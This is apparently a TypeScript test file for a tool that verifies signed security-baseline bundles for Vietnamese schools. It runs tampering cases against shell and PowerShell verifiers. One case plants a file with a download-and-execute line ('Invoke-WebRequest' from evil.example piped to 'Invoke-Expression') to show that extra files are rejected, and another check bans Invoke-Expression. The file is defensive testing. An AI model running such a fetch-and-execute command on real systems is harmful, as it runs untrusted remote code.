/**
 * What a school checks a bundle with when it has neither Node.js nor attt-kit: the list
 * the Department publishes (its hashes are the zips', index.json's and the manifests';
 * the same bytes on every run), verify-bundle.sh run for real on unpacked zips (valid; one
 * byte changed; a file removed; a file added; the manifest edited; a wrong published code;
 * a wrong key; bad input), and Verify-Bundle.ps1, which nothing here can run: parsed with
 * tree-sitter, held to Windows PowerShell 5.1's built-in commands, and checked to give the
 * same verdict messages as the shell verifier on the same cases.
 */
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { execa } from "execa";
import { parse as parseHtml } from "parse5";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { MANIFEST, SIGNATURE } from "../baselines/bundle/manifest.js";
import { PUBLISHED_HTML, PUBLISHED_TEXT } from "../baselines/bundle/published-list.js";
import { unzipFiles } from "../baselines/bundle/zip.js";
import { PS_VERIFIER, SH_VERIFIER } from "../baselines/emit/verifiers.js";
import { DEMO_INVENTORY } from "../model/demo.js";
import { runCli } from "./helpers/cli.js";
import { VIETNAMESE_LETTER } from "./helpers/vietnamese.js";
import { parsePowerShell, readVerbatim, syntaxProblems } from "./helpers/windows.js";

const work = mkdtempSync(join(tmpdir(), "attt-verifiers-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));
const KEYS = join(work, "keys");
const OTHER_KEYS = join(work, "other-keys");
const PUB = join(KEYS, "attt-signing.pub");
const ZIPS = join(work, "zips");
const UNIT = "hy-mn-hoa-mai";
const sha256 = (data: Uint8Array | string) => createHash("sha256").update(data).digest("hex");
const OPENSSL3 = (() => {
  try {
    return /^OpenSSL [3-9]/.test(execFileSync("openssl", ["version"], { encoding: "utf8" }));
  } catch {
    return false;
  }
})();
if (!OPENSSL3) console.log("skipped: the --key cases need OpenSSL 3 (openssl), which this machine lacks");

beforeAll(async () => {
  for (const dir of [KEYS, OTHER_KEYS]) expect((await runCli(["keygen", "--out", dir])).exitCode).toBe(0);
  const r = await runCli([
    "baseline",
    "package",
    DEMO_INVENTORY,
    "--out",
    ZIPS,
    "--sign-key",
    join(KEYS, "attt-signing.key"),
  ]);
  expect(r.exitCode, r.stderr).toBe(0);
}, 300_000);

/** The published list's lines for units: unit, zip, zip SHA-256, check code, key fingerprint. */
function publishedRows(dir: string): string[][] {
  return readFileSync(join(dir, PUBLISHED_TEXT), "utf8")
    .split("\n")
    .filter((l) => l !== "" && !l.startsWith("#"))
    .map((l) => l.split("  "));
}
const codeOf = (unit: string) => publishedRows(ZIPS).find((r) => r[0] === unit)?.[3] as string;

let n = 0;
/** The unit's zip unpacked by another tool (Python's zipfile, which drops execute bits). */
async function unpacked(unit = UNIT): Promise<string> {
  const dir = join(work, `unpacked-${++n}`);
  await execa("/usr/bin/python3", ["-m", "zipfile", "-e", join(ZIPS, `${unit}.zip`), dir]);
  return dir;
}

async function verifySh(dir: string, args: string[], env: Record<string, string> = {}) {
  const r = await execa("bash", [join(dir, SH_VERIFIER), ...args], {
    cwd: work,
    reject: false,
    env,
    input: "",
  });
  return { exitCode: r.exitCode ?? -1, stdout: String(r.stdout), stderr: String(r.stderr) };
}

/** The manifest's entry for `path`, edited as an attacker who also rewrites the manifest would. */
function rewriteManifestEntry(dir: string, path: string): void {
  const manifest = JSON.parse(readFileSync(join(dir, MANIFEST), "utf8"));
  const data = readFileSync(join(dir, path));
  const entry = manifest.files.find((f: { path: string }) => f.path === path);
  entry.sha256 = sha256(data);
  entry.size = data.length;
  writeFileSync(join(dir, MANIFEST), `${JSON.stringify(manifest, null, 2)}\n`);
}

const APPLY = "windows-office/Apply-Baseline.ps1";
const UNDO = "windows-office/Undo-Baseline.ps1";
const ADDED = "windows-office/run-me-too.ps1";

/** Changes one byte, keeping the size: only the hash can tell. */
function flipOneByte(file: string): void {
  const bytes = readFileSync(file);
  const at = bytes.length - 10;
  bytes[at] = (bytes[at] as number) ^ 0x01;
  writeFileSync(file, bytes);
}

interface Case {
  name: string;
  change?: (dir: string) => void;
  args: (dir: string) => string[];
  exit: 0 | 1 | 2;
  /** Lines the verifier must print (stdout for 0, stderr otherwise), Vietnamese and English. */
  says: Array<[vi: string, en: string]>;
  openssl?: boolean;
  /**
   * What Verify-Bundle.ps1 prints in the same case: its format strings (Vietnamese,
   * English) and their values here. The case's data must give the shell verifier's text.
   */
  ps?: { vi: string; en: string; values: (dir: string) => string[] };
}

const cases: Case[] = [
  {
    name: "the genuine bundle, with the published code",
    args: () => ["--sha256", codeOf(UNIT)],
    exit: 0,
    says: [["HỢP LỆ: gói hy-mn-hoa-mai:", "VALID: bundle hy-mn-hoa-mai:"]],
    ps: {
      vi: "HỢP LỆ: gói {0}: {1} tệp khớp {2}, không thiếu, không thừa; {2} khớp mã kiểm tra gói Sở công bố.",
      en: "VALID: bundle {0}: {1} files match {2}, none missing, none extra; {2} matches the check code the Department publishes.",
      values: (d) => [
        UNIT,
        String(JSON.parse(readFileSync(join(d, MANIFEST), "utf8")).files.length),
        MANIFEST,
      ],
    },
  },
  {
    name: "the genuine bundle, with the code pasted in capitals and groups",
    // As copied from the letter's table: four groups, not quoted, so four arguments.
    args: () => ["--sha256", ...(codeOf(UNIT).toUpperCase().match(/.{16}/g) as string[])],
    exit: 0,
    says: [["HỢP LỆ", "VALID"]],
  },
  {
    name: "the genuine bundle, with the Department's key",
    args: () => ["--key", PUB],
    exit: 0,
    says: [["chữ ký của Sở hợp lệ", "the Department's signature is valid"]],
    openssl: true,
  },
  {
    name: "one byte changed in a file",
    change: (d) => flipOneByte(join(d, APPLY)),
    args: () => ["--sha256", codeOf(UNIT)],
    exit: 1,
    says: [
      [
        `  - tệp bị sửa: ${APPLY} (SHA-256 khác manifest)`,
        `    altered file: ${APPLY} (sha256 does not match the manifest)`,
      ],
    ],
    ps: {
      vi: "tệp bị sửa: {0} (SHA-256 khác manifest)",
      en: "altered file: {0} (sha256 does not match the manifest)",
      values: () => [APPLY],
    },
  },
  {
    name: "a file removed",
    change: (d) => unlinkSync(join(d, UNDO)),
    args: () => ["--sha256", codeOf(UNIT)],
    exit: 1,
    says: [[`  - thiếu tệp: ${UNDO}`, `    missing file: ${UNDO}`]],
    ps: { vi: "thiếu tệp: {0}", en: "missing file: {0}", values: () => [UNDO] },
  },
  {
    name: "a file added",
    change: (d) =>
      writeFileSync(join(d, ADDED), "Invoke-WebRequest http://evil.example | Invoke-Expression\r\n"),
    args: () => ["--sha256", codeOf(UNIT)],
    exit: 1,
    says: [
      [`  - tệp thừa, không có trong manifest: ${ADDED}`, `    extra file not in the manifest: ${ADDED}`],
    ],
    ps: {
      vi: "tệp thừa, không có trong manifest: {0}",
      en: "extra file not in the manifest: {0}",
      values: () => [ADDED],
    },
  },
  {
    name: "the manifest edited to match an altered file",
    change: (d) => {
      flipOneByte(join(d, APPLY));
      rewriteManifestEntry(d, APPLY);
    },
    args: () => ["--sha256", codeOf(UNIT)],
    exit: 1,
    says: [
      [
        "  - manifest.json không khớp mã kiểm tra gói Sở công bố",
        "    manifest.json does not match the check code the Department publishes",
      ],
    ],
    ps: {
      vi: "{0} không khớp mã kiểm tra gói Sở công bố: gói đã bị sửa, hoặc mã đã dán không phải mã kiểm tra gói của {1} (không phải SHA-256 của tệp zip, không phải dấu vân tay khóa)",
      en: "{0} does not match the check code the Department publishes: the bundle was altered, or the code pasted is not the check code of {1} (not the zip's SHA-256, not the key fingerprint)",
      values: () => [MANIFEST, UNIT],
    },
  },
  {
    name: "the manifest edited, checked with the key",
    change: (d) => {
      flipOneByte(join(d, APPLY));
      rewriteManifestEntry(d, APPLY);
    },
    args: () => ["--key", PUB],
    exit: 1,
    says: [["  - chữ ký không khớp", "    the signature does not match"]],
    openssl: true,
  },
  {
    name: "a wrong published code (another unit's)",
    args: () => ["--sha256", codeOf("hy-th-le-loi")],
    exit: 1,
    says: [["manifest.json không khớp mã kiểm tra gói Sở công bố", "does not match the check code"]],
  },
  {
    name: "the zip's SHA-256 given instead of the check code",
    args: () => ["--sha256", sha256(readFileSync(join(ZIPS, `${UNIT}.zip`)))],
    exit: 1,
    says: [["không phải SHA-256 của tệp zip", "not the zip's SHA-256"]],
  },
  {
    name: "the Department's key saved in the unpacked folder, as the README's command runs it",
    change: (d) => copyFileSync(PUB, join(d, "attt-signing.pub")),
    args: (d) => ["--key", join(d, "attt-signing.pub"), "--sha256", codeOf(UNIT)],
    exit: 0,
    says: [["chữ ký của Sở hợp lệ", "the Department's signature is valid"]],
    openssl: true,
  },
  {
    name: "the Department's key saved in the unpacked folder, checked by code only",
    change: (d) => copyFileSync(PUB, join(d, "attt-signing.pub")),
    args: () => ["--sha256", codeOf(UNIT)],
    exit: 0,
    says: [["HỢP LỆ", "VALID"]],
  },
  {
    name: "the key fingerprint pasted instead of the check code",
    args: () => ["--sha256", publishedRows(ZIPS).find((r) => r[0] === UNIT)?.[4] as string],
    exit: 1,
    says: [["không phải dấu vân tay khóa", "not the key fingerprint"]],
  },
  {
    name: "a wrong key",
    args: () => ["--key", join(OTHER_KEYS, "attt-signing.pub")],
    exit: 1,
    says: [
      [
        "  - chữ ký không khớp: manifest.json đã bị sửa, hoặc gói được ký bằng khóa khác",
        "    the signature does not match: manifest.json was altered, or the bundle was signed with another key",
      ],
    ],
    openssl: true,
  },
  {
    name: "the signature removed, checked with the key",
    change: (d) => unlinkSync(join(d, SIGNATURE)),
    args: () => ["--key", PUB],
    exit: 1,
    says: [
      [`  - thiếu ${SIGNATURE}: gói chưa được ký`, `    ${SIGNATURE} is missing: the bundle is not signed`],
    ],
    openssl: true,
  },
  {
    name: "--help (nothing was checked, so not exit 0)",
    args: () => ["--help"],
    exit: 2,
    says: [],
  },
  {
    name: "a code that is not a SHA-256",
    args: () => ["--sha256", "abc123"],
    exit: 2,
    says: [["LỖI: mã kiểm tra phải là SHA-256", "ERROR: the check code must be a SHA-256"]],
    ps: {
      vi: "mã kiểm tra phải là SHA-256: 64 ký tự 0-9, a-f",
      en: "the check code must be a SHA-256: 64 characters 0-9, a-f",
      values: () => [],
    },
  },
  {
    name: "no code and no key, nobody at the terminal",
    args: () => [],
    exit: 2,
    says: [["LỖI: cần --sha256 MÃ", "ERROR: --sha256 CODE"]],
  },
  {
    name: "the private key instead of the public one",
    args: () => ["--key", join(KEYS, "attt-signing.key")],
    exit: 2,
    says: [["không phải khóa công khai Ed25519", "is not an Ed25519 public key"]],
    openssl: true,
  },
  {
    name: "no manifest.json beside the script",
    change: (d) => unlinkSync(join(d, MANIFEST)),
    args: () => ["--sha256", codeOf(UNIT)],
    exit: 2,
    says: [[`LỖI: không thấy ${MANIFEST} trong`, `ERROR: no ${MANIFEST} in`]],
    ps: {
      vi: "không thấy {0} trong {1}: chạy script trong thư mục đã giải nén của gói",
      en: "no {0} in {1}: run the script in the unpacked bundle's folder",
      values: (d) => [MANIFEST, d],
    },
  },
];

/** The PowerShell verifier's format strings that the shell verifier's cases produced (checked below). */
const psMessagesSeen: string[] = [];

describe("verify-bundle.sh on real unpacked zips", () => {
  for (const c of cases) {
    it.runIf(!c.openssl || OPENSSL3)(`${c.name}: exit ${c.exit}`, async () => {
      const dir = await unpacked();
      c.change?.(dir);
      const r = await verifySh(dir, c.args(dir));
      expect(r.exitCode, r.stdout + r.stderr).toBe(c.exit);
      const out = c.exit === 0 ? r.stdout : r.stderr;
      for (const [vi, en] of c.says) {
        expect(out).toContain(vi);
        expect(out).toContain(en);
        expect(out.indexOf(vi), "Vietnamese first").toBeLessThan(out.indexOf(en));
      }
      if (c.exit !== 0) expect(r.stdout + r.stderr).not.toMatch(/(^|\n)(HỢP LỆ| {2}VALID):/);
      // Never the value that would make this (possibly tampered) bundle pass.
      if (existsSync(join(dir, MANIFEST)))
        expect(r.stdout + r.stderr).not.toContain(sha256(readFileSync(join(dir, MANIFEST))));
      if (c.exit === 1) expect(r.stderr).toMatch(/^KHÔNG HỢP LỆ: gói hy-mn-hoa-mai .*\n {2}REJECTED: /);
      if (c.ps) {
        const values = c.ps.values(dir);
        const fill = (f: string) => f.replace(/\{(\d)\}/g, (_m, i) => values[Number(i)] as string);
        expect(out, "the PowerShell verifier's message, filled with this case's data").toContain(
          fill(c.ps.vi),
        );
        expect(out).toContain(fill(c.ps.en));
        psMessagesSeen.push(c.ps.vi, c.ps.en);
      }
    });
  }

  it("counts every file of the manifest, and the Department's key has the published fingerprint", async () => {
    const dir = await unpacked();
    const files = JSON.parse(readFileSync(join(dir, MANIFEST), "utf8")).files as unknown[];
    const r = await verifySh(dir, ["--sha256", codeOf(UNIT)]);
    expect(r.stdout).toContain(`${files.length} tệp khớp manifest.json`);
    expect(r.stdout).toContain(`${files.length} files match manifest.json`);
    if (!OPENSSL3) return;
    const fingerprint = publishedRows(ZIPS)[0]?.[4] as string;
    const k = await verifySh(dir, ["--key", PUB]);
    expect(k.stdout).toContain(`khóa ${fingerprint}`);
    const other = await verifySh(dir, ["--key", join(OTHER_KEYS, "attt-signing.pub")]);
    expect(other.stderr).toMatch(/fingerprint of the key used: [0-9a-f]{64}\)/);
    expect(other.stderr).not.toContain(fingerprint);
  });

  it("all options together must all hold: the right key with a wrong code is rejected", async () => {
    if (!OPENSSL3) return;
    const dir = await unpacked();
    const r = await verifySh(dir, ["--key", PUB, "--sha256", codeOf("hy-th-le-loi")]);
    expect(r.exitCode).toBe(1);
    expect(r.stderr).toContain("manifest.json không khớp mã kiểm tra gói");
  });

  it.runIf(OPENSSL3)("without OpenSSL, --key is refused (exit 2) and --sha256 still works", async () => {
    // A PATH with the tools of a minimal Debian (bash, coreutils, sed, grep, findutils), no openssl.
    const bin = join(work, "no-openssl-bin");
    mkdirSync(bin);
    for (const tool of [
      "bash",
      "sed",
      "grep",
      "head",
      "tr",
      "sha256sum",
      "wc",
      "find",
      "sort",
      "base64",
      "mktemp",
      "rm",
      "dirname",
      "cat",
    ]) {
      const at = ["/usr/bin", "/bin"].map((d) => join(d, tool)).find((p) => existsSync(p));
      if (at) symlinkSync(at, join(bin, tool));
    }
    const dir = await unpacked();
    const key = await verifySh(dir, ["--key", PUB], { PATH: bin });
    expect(key.exitCode, key.stderr).toBe(2);
    expect(key.stderr).toContain("cần OpenSSL 3 để kiểm tra chữ ký");
    const code = await verifySh(dir, ["--sha256", codeOf(UNIT)], { PATH: bin });
    expect(code.exitCode, code.stderr).toBe(0);
  });

  it("passes shellcheck", async () => {
    const r = await execa("shellcheck", [join(await unpacked(), SH_VERIFIER)], { reject: false });
    expect(r.exitCode, String(r.stdout)).toBe(0);
  });
});

describe("what every unit zip carries", () => {
  it("both verifiers, the same bytes in every zip, listed in the manifest; the shell one executable", () => {
    const index = JSON.parse(readFileSync(join(ZIPS, "index.json"), "utf8")) as Record<string, unknown>;
    const seen = new Map<string, Set<string>>([
      [PS_VERIFIER, new Set()],
      [SH_VERIFIER, new Set()],
    ]);
    for (const unit of Object.keys(index)) {
      const files = unzipFiles(readFileSync(join(ZIPS, `${unit}.zip`)));
      const manifest = JSON.parse(Buffer.from(files.get(MANIFEST) as Uint8Array).toString("utf8"));
      for (const name of seen.keys()) {
        const data = files.get(name);
        expect(data, `${unit}: ${name}`).toBeDefined();
        seen.get(name)?.add(sha256(data as Uint8Array));
        const entry = manifest.files.find((f: { path: string }) => f.path === name);
        expect(entry, `${unit}: ${name} in the manifest`).toMatchObject({
          sha256: sha256(data as Uint8Array),
          executable: name === SH_VERIFIER,
        });
      }
    }
    for (const [name, hashes] of seen) expect(hashes.size, name).toBe(1);
  });

  it("a README that starts with the three steps in Vietnamese, bash apply.sh included", () => {
    const files = unzipFiles(readFileSync(join(ZIPS, `${UNIT}.zip`)));
    const readme = Buffer.from(files.get("README.md") as Uint8Array).toString("utf8");
    const vi = readme.slice(readme.indexOf("## Tiếng Việt"), readme.indexOf("## English"));
    // The first thing under the Vietnamese heading: the three steps, in order.
    const steps = vi.split("\n").filter((l) => /^\d\. /.test(l));
    expect(vi.split("\n")[2]).toBe("### Ba bước");
    expect(steps.map((l) => l.match(/^\d\. \*\*([^*]+)\*\*/)?.[1])).toEqual([
      "Kiểm tra gói",
      "Áp dụng",
      "Gửi minh chứng.",
    ]);
    expect(steps[0]).toContain(`-File .\\${PS_VERIFIER}`);
    expect(steps[0]).toContain(`bash ${SH_VERIFIER} --sha256`);
    expect(steps[1]).toContain("`sudo bash apply.sh`");
    expect(steps[2]).toContain("Test-Baseline.ps1 -Upload https://");
    expect(steps[2]).toContain("sudo bash audit.sh --upload https://");
    expect(steps[2]).toContain("evidence-");
    expect(readme.indexOf("## Tiếng Việt")).toBeLessThan(readme.indexOf("## English"));
    expect(readme.slice(readme.indexOf("## English"))).toContain("### Three steps");
    const linuxUnit = Object.keys(JSON.parse(readFileSync(join(ZIPS, "index.json"), "utf8"))).find((u) =>
      [...unzipFiles(readFileSync(join(ZIPS, `${u}.zip`))).keys()].some((p) => p.endsWith("/apply.sh")),
    );
    expect(linuxUnit, "a unit with a Linux bundle").toBeDefined();
    const linux = unzipFiles(readFileSync(join(ZIPS, `${linuxUnit}.zip`)));
    const roleReadme = [...linux].find(([p]) => /^linux-[^/]+\/README\.md$/.test(p))?.[1] as Uint8Array;
    const text = Buffer.from(roleReadme).toString("utf8");
    expect(text).toContain("`sudo bash apply.sh`");
    expect(text).not.toMatch(/sudo \.\//);
  });
});

describe("the list the Department publishes", () => {
  it("holds every unit with its zip's SHA-256 (as index.json), the manifest's, and the key fingerprint", () => {
    const index = JSON.parse(readFileSync(join(ZIPS, "index.json"), "utf8")) as Record<
      string,
      { zipSha256: string; signingKey: string }
    >;
    const rows = publishedRows(ZIPS);
    expect(rows.map((r) => r[0])).toEqual(Object.keys(index).sort());
    const pem = readFileSync(PUB, "utf8");
    const der = Buffer.from(pem.replace(/-----[^-]+-----|\s/g, ""), "base64");
    for (const [unit, zip, zipSha, code, key] of rows) {
      const bytes = readFileSync(join(ZIPS, zip as string));
      expect(zip).toBe(`${unit}.zip`);
      expect(zipSha, unit).toBe(sha256(bytes));
      expect(zipSha, unit).toBe(index[unit as string]?.zipSha256);
      expect(code, unit).toBe(sha256(unzipFiles(bytes).get(MANIFEST) as Uint8Array));
      expect(key, unit).toBe(sha256(der));
      expect(key, unit).toBe(index[unit as string]?.signingKey);
    }
  });

  it("as an HTML table for a Vietnamese letter: the same values, one row per unit, the unit's name", () => {
    const html = readFileSync(join(ZIPS, PUBLISHED_HTML), "utf8");
    type El = { nodeName: string; childNodes?: El[]; value?: string };
    const all: El[] = [];
    const walk = (e: El) => {
      all.push(e);
      for (const c of e.childNodes ?? []) walk(c);
    };
    walk(parseHtml(html) as unknown as El);
    const text = (e: El): string =>
      e.nodeName === "#text" ? (e.value ?? "") : (e.childNodes ?? []).map(text).join("");
    const body = all.filter((e) => e.nodeName === "tbody")[0] as El;
    const trs = (body.childNodes ?? []).filter((e) => e.nodeName === "tr");
    const cells = trs.map((tr) => (tr.childNodes ?? []).filter((e) => e.nodeName === "td").map(text));
    const rows = publishedRows(ZIPS);
    expect(cells).toHaveLength(rows.length);
    cells.forEach((c, i) => {
      const [unit, zip, zipSha, code] = rows[i] as string[];
      expect(c[0]).toBe(String(i + 1));
      expect(c[1]).toContain(`(${unit})`);
      expect(c[1]).toMatch(VIETNAMESE_LETTER);
      expect(c[2]).toBe(zip);
      expect(c[3]?.replace(/\s/g, "")).toBe(zipSha);
      expect(c[4]?.replace(/\s/g, "")).toBe(code);
    });
    const heads = all.filter((e) => e.nodeName === "th").map(text);
    expect(heads).toEqual([
      "STT",
      "Đơn vị",
      "Tệp gói",
      "SHA-256 của tệp gói",
      "Mã kiểm tra gói (SHA-256 của manifest.json)",
    ]);
    expect(text(all.find((e) => e.nodeName === "body") as El).replace(/\s/g, "")).toContain(rows[0]?.[4]);
  });

  it("is the same bytes on another run; unsigned, it says so, with the same check codes", async () => {
    const again = join(work, "zips-again");
    const pkg = (...key: string[]) => runCli(["baseline", "package", DEMO_INVENTORY, "--out", again, ...key]);
    const r = await pkg("--sign-key", join(KEYS, "attt-signing.key"));
    expect(r.exitCode, r.stderr).toBe(0);
    for (const f of [PUBLISHED_TEXT, PUBLISHED_HTML])
      expect(readFileSync(join(again, f)).equals(readFileSync(join(ZIPS, f))), f).toBe(true);
    expect((await pkg()).exitCode).toBe(0);
    const text = readFileSync(join(again, PUBLISHED_TEXT), "utf8");
    expect(text).toMatch(/signing key fingerprint: CHƯA KÝ/);
    expect(readFileSync(join(again, PUBLISHED_HTML), "utf8")).toContain("CHƯA KÝ");
    const signed = publishedRows(ZIPS);
    const unsigned = publishedRows(again);
    expect(unsigned.every((row) => row[4] === "-")).toBe(true);
    // The signature is beside the manifest, never in it: the check codes do not depend on signing.
    expect(unsigned.map((row) => row[3])).toEqual(signed.map((row) => row[3]));
    expect(unsigned.every((row, i) => row[2] !== signed[i]?.[2])).toBe(true);
  });
});

describe("Verify-Bundle.ps1 (nothing runs PowerShell here: parsed, and checked against the cases above)", () => {
  const text = () =>
    Buffer.from(unzipFiles(readFileSync(join(ZIPS, `${UNIT}.zip`))).get(PS_VERIFIER) as Uint8Array).toString(
      "utf8",
    );
  /** Every single-quoted string of the script, as PowerShell reads it. */
  const verbatims = (source: string) =>
    parsePowerShell(source)
      .rootNode.descendantsOfType("string_literal")
      .map((n) => readVerbatim(n.text)?.value)
      .filter((v): v is string => v !== undefined);

  it("is UTF-8 with a byte-order mark and CRLF line ends (Windows PowerShell 5.1 reads it as such)", () => {
    const bytes = unzipFiles(readFileSync(join(ZIPS, `${UNIT}.zip`))).get(PS_VERIFIER) as Uint8Array;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const source = text();
    expect(source.replace(/\r\n/g, "")).not.toMatch(/[\r\n]/);
    expect(source).toMatch(VIETNAMESE_LETTER);
  });

  it("parses with no error, uses only commands of Windows PowerShell 5.1 and its own functions", () => {
    const tree = parsePowerShell(text().replace(/^\uFEFF/, ""));
    expect(syntaxProblems(tree)).toEqual([]);
    const own = new Set(tree.rootNode.descendantsOfType("function_name").map((n) => n.text.toLowerCase()));
    const builtIn = new Set(
      [
        "Set-StrictMode",
        "Write-Host",
        "Get-FileHash",
        "Join-Path",
        "Test-Path",
        "Read-Host",
        "ConvertFrom-Json",
        "Get-Item",
        "Get-ChildItem",
        "Where-Object",
        "Sort-Object",
        "Get-Content",
      ].map((c) => c.toLowerCase()),
    );
    const used = tree.rootNode.descendantsOfType("command_name").map((n) => n.text.toLowerCase());
    expect(used.filter((c) => !own.has(c) && !builtIn.has(c))).toEqual([]);
    expect(text()).not.toMatch(/#Requires|Import-Module|Install-Module|Invoke-Expression|iex\b/i);
    // No .NET type but strings and numbers: Constrained Language Mode (AppLocker, WDAC) allows no other.
    const types = new Set(tree.rootNode.descendantsOfType("type_name").map((n) => n.text.toLowerCase()));
    expect([...types].sort()).toEqual(["int", "long", "string"]);
    expect(text()).not.toMatch(/New-Object|Add-Type|::/);
  });

  it("exits only 0, 1 or 2, and 0 once, after the rejection", () => {
    const source = text().replace(/^\uFEFF/, "");
    const tree = parsePowerShell(source);
    // One `exit`, in Exit-WithCode (which keeps a prompted window open); every exit goes through it.
    const exits = tree.rootNode
      .descendantsOfType("flow_control_statement")
      .map((n) => n.text)
      .filter((t) => /^exit\b/i.test(t));
    expect(exits).toEqual(["exit $Code"]);
    const codes = tree.rootNode
      .descendantsOfType("command")
      .filter((c) => c.childForFieldName("command_name")?.text === "Exit-WithCode")
      .map((c) => c.text);
    expect(new Set(codes)).toEqual(new Set(["Exit-WithCode 0", "Exit-WithCode 1", "Exit-WithCode 2"]));
    expect(codes.filter((c) => c === "Exit-WithCode 0")).toHaveLength(1);
    // The one exit 0 comes after the rejection (exit 1 when any problem was found) and the VALID message.
    const order = [
      "if ($Script:Problems.Count -gt 0) {",
      "Exit-WithCode 1",
      "Write-Say -Vi ('HỢP LỆ: gói",
      "Exit-WithCode 0",
    ].map((t) => source.indexOf(t));
    expect(order.every((at) => at >= 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
  });

  it("prints, in every case the shell verifier was run on, the same messages", () => {
    const strings = new Set(verbatims(text().replace(/^\uFEFF/, "")));
    expect(psMessagesSeen.length, "the shell cases ran first").toBeGreaterThan(10);
    for (const m of psMessagesSeen) expect(strings.has(m), m).toBe(true);
  });

  it("accepts the path of every file of every zip (its path rule, read from the script)", () => {
    const rule = verbatims(text().replace(/^\uFEFF/, "")).find((v) => v.startsWith("^[A-Za-z0-9"));
    expect(rule).toBeDefined();
    const re = new RegExp(rule as string);
    const index = JSON.parse(readFileSync(join(ZIPS, "index.json"), "utf8")) as Record<string, unknown>;
    let paths = 0;
    for (const unit of Object.keys(index)) {
      const manifest = JSON.parse(
        Buffer.from(unzipFiles(readFileSync(join(ZIPS, `${unit}.zip`))).get(MANIFEST) as Uint8Array).toString(
          "utf8",
        ),
      );
      for (const f of manifest.files as Array<{ path: string }>) {
        paths++;
        expect(re.test(f.path), f.path).toBe(true);
        for (const name of f.path.split("/")) expect(name, f.path).toMatch(/^[^. ]?.*[^. ]$|^[^. ]$/);
      }
    }
    expect(paths).toBeGreaterThan(100);
    for (const bad of ["../x", "a/../b", "C:/x", "a:stream", "a\\b"]) {
      const ok =
        re.test(bad) && !bad.split("/").some((n) => n === "" || n === "." || n === ".." || /[. ]$/.test(n));
      expect(ok, bad).toBe(false);
    }
  });
});
